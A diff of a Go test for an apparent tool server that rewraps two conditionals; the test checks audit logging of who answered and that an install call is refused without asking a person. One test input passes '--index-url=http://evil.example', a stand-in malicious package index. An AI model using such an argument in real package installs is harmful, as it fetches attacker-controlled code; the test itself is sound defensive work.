@@ -101,14 +101,16 @@ func TestPackagesAreApproved(t *testing.T) {
 		})
 	}
 	for row, err := range r.cfg.Log.Rows(t.Context(), audit.Filter{}) {
-		if response := string(row.Data); err != nil || strings.Contains(response, `"by":"elicitation"`) && !strings.Contains(response, `"user":"ada"`) {
+		if response := string(row.Data); err != nil || strings.Contains(response, `"by":"elicitation"`) &&
+			!strings.Contains(response, `"user":"ada"`) {
 			t.Errorf("%v, row %s does not say who answered: %s", err, row.Kind, response)
 		}
 	}
 	t.Run("refused anyway", func(t *testing.T) {
 		before := len(r.cfg.Approvals.Pending())
 		p := r.hello("2025-11-25", `{}`)
-		if got := p.read1(p.call("tools/call", install(`"--index-url=http://evil.example"`))); !got.IsError || len(r.cfg.Approvals.Pending()) != before {
+		if got := p.read1(p.call("tools/call", install(`"--index-url=http://evil.example"`))); !got.IsError ||
+			len(r.cfg.Approvals.Pending()) != before {
 			t.Errorf("a person was asked: %s", got.text)
 		}
 	})
